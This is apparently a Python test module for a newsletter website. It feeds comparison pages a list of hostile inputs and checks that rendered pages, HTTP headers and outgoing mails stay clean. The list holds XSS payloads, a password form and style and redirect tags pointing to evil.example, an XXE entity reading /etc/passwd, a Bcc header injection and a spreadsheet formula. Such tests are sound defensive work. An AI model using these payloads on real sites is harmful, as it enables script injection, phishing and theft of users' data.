"""Text that means harm, comparisons that are full of it, and what must hold of every answer nevertheless."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import httpx

from newsletter.comparisons.model import Comparison, Pricing, Review, Tool, Verdict, panel_of
from newsletter.providers.outbox import Outbox
from tests.fakes.furnished import Furnished
from tests.web.conftest import Visitor

EVIL = {
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a comment": "--><svg onload=alert(1)><!--",
    "an attribute": '" autofocus onfocus="alert(1)',
    "an attribute in single quotes": "' onmouseover='alert(1)",
    "a backslash": '\\"; alert(1); \\"',
    "a picture": "<img src=x onerror=alert(1)>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a style": "</style><style>*{background:url(https://evil.example/x)}</style>",
    "a form": "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "a base": "<base href=https://evil.example/>",
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "character references": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "a template": "{{ 913*7 }}{% raw %}${913*7}#{913*7}<%= 913*7 %>",
    "end of CDATA": "]]><script>alert(1)</script>",
    "an entity": "&xxe;<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
    "header lines": "a\nBcc: everybody@evil.example\n\nbody",
    "right to left": "שלום\u200f עולם",
    "a long word": "W" * 10_000,
    "a formula": '=HYPERLINK("https://evil.example","x")',
    "a mail token": "__nl5eed0123abcd_unsubscribe_url__",
    "a script address": "javascript:alert(1)",
}
UNSEEN = {
    "an override": "evil\u202egpj.exe\u202c \u2066x\u2069",
    "line separators": "a\u2028b\u2029c\u0085d",
    "controls": "a\x00b\x01c\x0bd\x1be\x7ff",
}
"""Nothing that a person sees: it never comes in."""
_UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def hostile(number: int, evil: str) -> Comparison:
    """A comparison that says it wherever a comparison says anything, one side also in its address."""
    line = evil.replace("\n", " ")
    reviews = tuple(
        Review(f"{line} {n}", 80 + n, Verdict.SHIP if n < 3 else Verdict.SKIP, f"{evil} and a sentence to be quoted.")
        for n in range(4)
    )
    one = Tool(
        name=f"One {line}",
        slug=f"one-{number}",
        url="https://one.example/?q=%22%3E%3Cscript%3E&x='y",
        category=f"Kind {line}",
        tagline=line,
        description=evil,
        pricing=Pricing(line, f"From {evil}"),
        best_for=line,
        panel=panel_of(reviews),
        reviews=reviews,
    )
    other = replace(one, name=f"{line} other", slug=f"other-{number}", url=None, category=line)
    return Comparison(f"hostile-{number}", (one, other))


def ask(visitor: Visitor, method: str, path: str, *, peer: str = "127.0.0.1", **options: Any) -> httpx.Response:
    """Without the checks of every other page: words that look wrong are meant here."""

    async def once() -> httpx.Response:
        transport = httpx.ASGITransport(visitor.site, client=(peer, 50_000))
        async with httpx.AsyncClient(transport=transport, base_url=visitor.origin) as client:
            return await client.request(method, path, **options)

    answer: httpx.Response = visitor._portal.call(once)
    check_headers(answer, path)
    return answer


class Elements(HTMLParser):
    """What a browser would make elements and attributes of."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self._in = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        self._in = tag

    def handle_data(self, data: str) -> None:
        if self._in == "script" and data.strip():
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in = ""


_MAY_STAND = {
    *(
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "body",
        "header",
        "nav",
        "main",
        "footer",
        "section",
        "article",
    ),
    *("h1", "h2", "h3", "h4", "p", "a", "span", "strong", "em", "b", "i", "small", "br", "hr", "ul", "ol", "li", "dl"),
    *("dt", "dd", "table", "caption", "thead", "tbody", "tr", "th", "td", "form", "label", "input", "button", "select"),
    *("option", "optgroup", "fieldset", "legend", "textarea", "details", "summary", "time", "div", "aside", "figure"),
    *(
        "figcaption",
        "blockquote",
        "q",
        "cite",
        "svg",
        "rect",
        "path",
        "img",
        "iframe",
        "template",
        "code",
        "pre",
        "mark",
    ),
    *(
        "abbr",
        "bdi",
        "search",
        "meter",
        "progress",
        "data",
        "output",
        "noscript",
        "dialog",
        "circle",
        "g",
        "line",
        "use",
    ),
}


def check_page(html: str, where: str) -> None:
    """That the page holds no element, attribute or address which the text could have brought."""
    page = Elements(html)
    for tag, attributes in page.found:
        assert tag in _MAY_STAND, (where, tag)
        for name, value in attributes.items():
            assert not name.startswith("on"), (where, tag, name)
            assert re.fullmatch(r"[a-zA-Z:-]+", name), (where, tag, name)
            assert name not in ("style", "srcdoc", "formaction", "background", "http-equiv"), (where, tag, name)
            if name in ("href", "src", "action", "poster", "cite"):
                parts = urlsplit(value)
                assert parts.scheme in ("", "http", "https", "mailto"), (where, value)
                assert not value.startswith("//"), (where, value)
                if tag not in ("a",) and parts.netloc:
                    assert parts.netloc == "localhost:8000", (where, tag, value)
                if tag == "a" and parts.netloc:
                    assert parts.netloc in ("localhost:8000", "one.example"), (where, value)
        if attributes.get("target") == "_blank":
            assert "noopener" in attributes.get("rel", ""), (where, tag)
        if tag in ("form", "base", "iframe", "object", "embed"):
            assert tag == "form" or (tag == "iframe" and "sandbox" in attributes), (where, tag)
        if tag == "script":
            assert attributes.get("type") == "application/ld+json" or "/static/app.js" in attributes["src"], where
    for block in page.scripts:
        json.loads(block)
        assert not set(block) & set("<>\u2028\u2029"), where
    assert not _UNSEEN.search(html), (where, _UNSEEN.search(html))
    assert "6391" not in html, where


def check_headers(answer: httpx.Response, where: str) -> None:
    """That every header is one line of printable ASCII, and none is of the text's making."""
    for name, value in answer.headers.raw:
        assert re.fullmatch(rb"[!-~][ -~]*|", value), (where, name, value)
        assert name.lower() not in (b"bcc", b"x-injected")


def check_mails(house: Furnished) -> int:
    """That no mail has a header that nobody meant."""
    assert isinstance(house.app.provider, Outbox)
    known = {
        *("from", "to", "reply-to", "subject", "date", "message-id", "mime-version", "content-type", "auto-submitted"),
        *("list-unsubscribe", "list-unsubscribe-post", "list-id", "precedence", "feedback-id", "form-sub"),
        *("content-transfer-encoding", "list-help", "list-archive", "sender", "x-auto-response-suppress"),
    }
    mails = house.app.provider.list_mails(1000)
    for one in mails:
        for name, value in house.app.provider.read_mail(one.id).headers:
            assert name.lower() in known or name.lower().startswith("x-"), name
            assert not _UNSEEN.search(value), (name, value)
            assert "evil.example" not in value
    return len(mails)
